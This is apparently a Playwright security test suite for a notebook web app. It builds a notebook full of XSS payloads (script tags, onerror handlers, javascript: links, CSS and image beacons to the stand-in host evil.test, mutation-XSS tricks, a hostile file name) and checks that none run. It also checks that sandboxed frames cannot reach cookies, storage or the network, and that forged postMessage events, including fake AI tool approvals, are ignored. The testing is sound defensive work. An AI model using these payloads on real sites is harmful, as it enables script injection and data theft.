"""A hostile notebook: nothing in it runs in the page, and nothing is fetched for it."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from playwright.sync_api import Page, expect

from tests.support.browser.demo import commit, events_of, import_ipynb
from tests.support.hostile.host import EVIL, Host

# Each would set `owned` in the page, or fetch from the attacker's host, if it got through.
MARKUP = (
    "<script>window.top.owned = 1; fetch('http://evil.test/script')</script>"
    "<img src=x onerror='window.owned = 1'><img src='http://evil.test/img.png'>"
    "<svg onload='window.owned = 1'><script>window.owned = 1</script>"
    "<image href='http://evil.test/image.svg'/><use href='http://evil.test/use.svg#a'/></svg>"
    "<a href='javascript:window.owned = 1'>link</a>"
    "<a href='&#106;avascript:window.owned=1'>link</a>"
    "<iframe src='http://evil.test/frame'></iframe><iframe srcdoc='<script>top.owned=1</script>'>"
    "</iframe><object data='http://evil.test/object'></object><embed src='http://evil.test/embed'>"
    "<link rel=stylesheet href='http://evil.test/link.css'><base href='http://evil.test/'>"
    "<meta http-equiv=refresh content='0; url=http://evil.test/refresh'>"
    "<style>@import 'http://evil.test/import.css';"
    "body { background: url(http://evil.test/body.png) !important }"
    "@font-face { font-family: x; src: url(http://evil.test/font) } * { font-family: x }</style>"
    "<div style='background: url(http://evil.test/style.png); position: fixed; inset: 0'>div</div>"
    "<form action='http://evil.test/form'><input autofocus onfocus='window.owned = 1'></form>"
    "<video src='http://evil.test/video' poster='http://evil.test/poster' autoplay></video>"
    "<math><mtext><img src=x onerror='window.owned=1'></mtext></math>"
    "<details open ontoggle='window.owned = 1'>d</details><body onload='window.owned = 1'>"
    "<template><script>window.owned = 1</script></template><noscript><p title='</noscript>"
    "<img src=x onerror=window.owned=1>'></noscript>"
)
TRICKS = f"""{MARKUP}

[link](javascript:window.owned=1) [link](JaVaScRiPt:window.owned=1) <javascript:window.owned=1>
[link](data:text/html,<script>window.owned=1</script>) [r][r]

![i]({EVIL}/markdown.png) ![i](data:text/html,x) ![i]("onerror="window.owned=1) ![i][r]

[r]: javascript:window.owned=1

```html" onclick="window.owned=1
{MARKUP}
```

| <img src=x onerror=window.owned=1> |
|---|
| {EVIL}/auto |

$\\href{{javascript:window.owned=1}}{{x}}$ $\\includegraphics{{{EVIL}/tex.png}}$
$\\htmlStyle{{background:url({EVIL}/tex-style.png)}}{{x}}$ $\\url{{javascript:window.owned=1}}$

$$<img src=x onerror=window.owned=1>$$
"""
PLOTLY = {
    "data": [{"type": "bar", "x": [MARKUP, "<a href='javascript:top.owned=1'>x</a>"], "y": [1, 2]}],
    "layout": {
        "title": {"text": MARKUP},
        "images": [{"source": f"{EVIL}/plotly.png", "x": 0, "y": 1, "sizex": 1, "sizey": 1}],
    },
}
VEGA = {
    "$schema": "https://vega.github.io/schema/vega-lite/v6.json",
    "title": MARKUP,
    "data": {"url": f"{EVIL}/data.json"},
    "mark": {"type": "image", "url": f"{EVIL}/vega.png", "href": "javascript:top.owned=1"},
    "transform": [{"calculate": "top.owned = 1", "as": "x"}],
}
BUNDLES: list[dict[str, Any]] = [
    {"text/html": MARKUP},
    {"text/html": TRICKS},
    {"image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg'>{MARKUP}</svg>"},
    {"text/markdown": TRICKS},
    {"text/latex": TRICKS},
    {"image/png": f"x' onerror='window.owned=1' src='{EVIL}/png"},
    {"application/json": {MARKUP: [MARKUP, {"__proto__": MARKUP}]}},
    {"text/plain": MARKUP},
    {"application/vnd.plotly.v1+json": PLOTLY},
    {"application/vnd.vegalite.v6+json": VEGA},
    {f"text/{MARKUP}": MARKUP},
    {
        "application/vnd.anode.aitool+json": {
            "tool_call_id": MARKUP,
            "tool_name": MARKUP,
            "arguments": {MARKUP: MARKUP},
        }
    },
    # What is not what it should be takes nothing else with it.
    {"application/vnd.anode.aitool+json": None},
    {"application/vnd.plotly.v1+json": "{"},
    {"application/vnd.vegalite.v5+json": None},
]


def hostile_file() -> dict[str, Any]:
    metadata = {"anode": {"role": "assistant", "ai_provider": MARKUP, "ai_model": MARKUP}}
    outputs = [
        {"output_type": "display_data", "data": bundle, "metadata": metadata} for bundle in BUNDLES
    ]
    said = {"runt": {"kind": "markdown"}, "anode": metadata["anode"] | {"run_id": "q"}}
    outputs += [
        {"output_type": "display_data", "data": {"text/markdown": TRICKS}, "metadata": said},
        {"output_type": "stream", "name": "stdout", "text": f"\x1b]8;;{EVIL}\x07{MARKUP}"},
        {"output_type": "error", "ename": MARKUP, "evalue": MARKUP, "traceback": [MARKUP, MARKUP]},
    ]
    code = {"cell_type": "code", "execution_count": None, "metadata": {}}
    return {
        "nbformat": 4,
        "nbformat_minor": 5,
        "metadata": {"title": MARKUP},
        "cells": [
            {"cell_type": "markdown", "source": TRICKS, "metadata": {}, "id": MARKUP},
            {**code, "source": f"%%ai\n{TRICKS}", "outputs": outputs, "id": "ai"},
            {**code, "source": MARKUP, "outputs": outputs, "id": "code"},
            {"cell_type": "raw", "source": MARKUP, "metadata": {}, "id": "raw"},
        ],
    }


def test_a_hostile_notebook_runs_nothing_and_fetches_nothing(
    without_python: None, page: Page, site: str, evil: str, tmp_path: Path
) -> None:
    opened: list[Page] = []
    page.context.on("page", lambda popup: opened.append(popup))
    path = tmp_path / "<img src=x onerror=window.owned=1>.ipynb"
    path.write_text(json.dumps(hostile_file()).replace(EVIL, evil), "utf-8")
    page.goto(f"{site}/?memory=empty")
    import_ipynb(page, path)
    expect(page.locator("[data-cell-id]")).to_have_count(4)
    expect(page.get_by_text("This output cannot be shown").first).to_be_attached()
    # The charts are the last to be there.
    for cell in ("ai", "code"):
        frame = page.get_by_test_id(f"cell-{cell}").frame_locator("iframe[data-kind=plotly]")
        expect(frame.locator(".main-svg").first).to_be_attached()
    expect(page.locator(".katex").first).to_be_attached()
    page.locator("details").evaluate_all("(all) => all.forEach((it) => (it.open = true))")
    # No link would act when it is clicked, in the page or in its frames.
    for target in [page, *[frame for frame in page.frames if frame != page.main_frame]]:
        for link in target.locator("a").all():
            href = link.get_attribute("href") or link.get_attribute("xlink:href") or ""
            assert not href.lower().strip().startswith(("javascript:", "data:text")), href
    expect(page.locator("main :is(script, object, embed, form[action], base)")).to_have_count(0)
    names = "(all) => all.flatMap((it) => it.getAttributeNames())"
    assert not [name for name in page.locator("*").evaluate_all(names) if name.startswith("on")]
    assert page.evaluate("window.owned") is None
    for frame in page.frames:
        assert frame.evaluate("window.owned") is None
    assert Host.asked == []
    assert opened == []
    assert all(frame.url.startswith(site) for frame in page.frames)


def show_html(page: Page, site: str) -> None:
    """A notebook of one cell, whose output says hello in a frame."""
    page.goto(f"{site}/?memory=empty")
    page.locator("main").wait_for()
    html = {"type": "inline", "data": "<p>hello</p>"}
    created = {"id": "c", "cellType": "code", "fractionalIndex": "i", "createdBy": "t"}
    added = {"id": "o", "cellId": "c", "position": 0, "representations": {"text/html": html}}
    commit(page, ("v2.CellCreated", created), ("v1.MultimediaDisplayOutputAdded", added))
    expect(page.frame_locator("iframe").get_by_text("hello")).to_be_visible()


def test_frames_can_neither_reach_the_page_nor_the_network(
    without_python: None, page: Page, site: str
) -> None:
    """Were a script to get into a frame after all, there is nothing it could do."""
    show_html(page, site)
    frame = page.frames[1]
    tries = {
        "the page": "parent.document.title",
        "storage": "localStorage.length",
        "cookies": "document.cookie",
        "a request": "fetch(location.href).then((it) => it.text())",
        "the site": "new Promise((ok, no) => { const x = new XMLHttpRequest(); x.onload = ok;"
        " x.onerror = () => no(new Error()); x.open('GET', 'assets/main.js'); x.send(); })",
        "a worker": "new Promise((ok, no) => { const w = new Worker(URL.createObjectURL(new Blob("
        "['postMessage(1)']))); w.onmessage = ok; w.onerror = () => no(new Error()); })",
        "the address of the page": "parent.location.href = 'about:blank'",
        "the address above all": "top.location.replace('about:blank')",
        "a window without a click": "new Promise((ok, no) => open('frame.html') ? ok() : no())",
        "a service worker": "navigator.serviceWorker.register('service-worker.js')",
        "a shared worker": "new SharedWorker('assets/main.js')",
        "a database": "new Promise((ok, no) => { const r = indexedDB.open('x'); r.onsuccess = ok;"
        " r.onerror = no; })",
        "files": "navigator.storage.getDirectory()",
        "caches": "caches.open('x')",
        "locks": "navigator.locks.request('x', () => 1)",
        "a socket": "new Promise((ok, no) => { const s = new WebSocket('ws://127.0.0.1:9');"
        " s.onopen = ok; s.onerror = no; })",
        "a stream of events": "new Promise((ok, no) => { const s = new EventSource('x');"
        " s.onopen = ok; s.onerror = no; })",
        "a module": "import('./assets/main.js')",
        "a frame": "new Promise((ok, no) => { const f = document.createElement('iframe');"
        " f.src = 'index.html'; document.body.append(f);"
        " addEventListener('securitypolicyviolation', no); })",
        "the clipboard": "navigator.clipboard.readText()",
        "the camera": "navigator.mediaDevices.getUserMedia({ video: true })",
        "the place": "new Promise((ok, no) => navigator.geolocation.getCurrentPosition(ok, no))",
        "a prompt": "new Promise((ok, no) => prompt('key') === null ? no() : ok())",
        "an image": "new Promise((ok, no) => { const i = new Image(); i.onload = ok;"
        " i.onerror = () => no(new Error()); i.src = 'icon.svg'; })",
    }
    for what, attempt in tries.items():
        told = f"try {{ await ({attempt}); return 'got through' }} catch {{ return 'refused' }}"
        assert frame.evaluate(f"async () => {{ {told} }}") == "refused", what


def test_a_message_from_elsewhere_changes_no_output(
    without_python: None, page: Page, site: str
) -> None:
    show_html(page, site)
    frame = page.frame_locator("iframe")
    height = page.locator("iframe").evaluate("(it) => it.offsetHeight")
    forged = ["null", "7", "'height'", "{}", "{ type: null }", "{ type: '__proto__' }"]
    forged += [f"{{ type: '{name}' }}" for name in ("constructor", "__defineGetter__", "toString")]
    forged += [
        "{ type: 'approve' }",
        "{ type: 'v1.ToolApprovalResponded', status: 'approved_always' }",
    ]
    for one in forged:
        page.evaluate(f"postMessage({one}, '*')")
        page.frames[1].evaluate(f"parent.postMessage({one}, '*')")
    page.evaluate("postMessage({ type: 'height', height: 9999 }, '*')")
    page.frames[1].evaluate("postMessage({ kind: 'html', data: '<p>other</p>' }, '*')")
    expect(frame.get_by_text("other")).to_have_count(0)
    assert page.locator("iframe").evaluate("(it) => it.offsetHeight") == height
    assert events_of(page, "v1.ToolApprovalResponded") == []


def test_a_frame_with_the_sites_origin_shows_nothing(page: Page, site: str) -> None:
    """As another page would embed it, without a sandbox."""
    page.goto(f"{site}/examples/ask.html")
    page.evaluate(
        """() => new Promise((loaded) => {
          globalThis.heard = [];
          addEventListener("message", ({ data }) => globalThis.heard.push(data));
          const frame = document.createElement("iframe");
          frame.onload = loaded;
          frame.src = "../frame.html";
          document.body.append(frame);
        })"""
    )
    frame = page.frames[1]
    page.evaluate("() => frames[0].postMessage({ kind: 'html', data: '<p>shown</p>' }, '*')")
    # The frame has had its turn once it answers to what was sent later.
    frame.evaluate(
        "() => new Promise((ok) => { addEventListener('message', ok, { once: true });"
        " parent.frames[0].postMessage({}, '*'); })"
    )
    assert frame.locator("#place").inner_html() == ""
    assert page.evaluate("() => globalThis.heard") == []
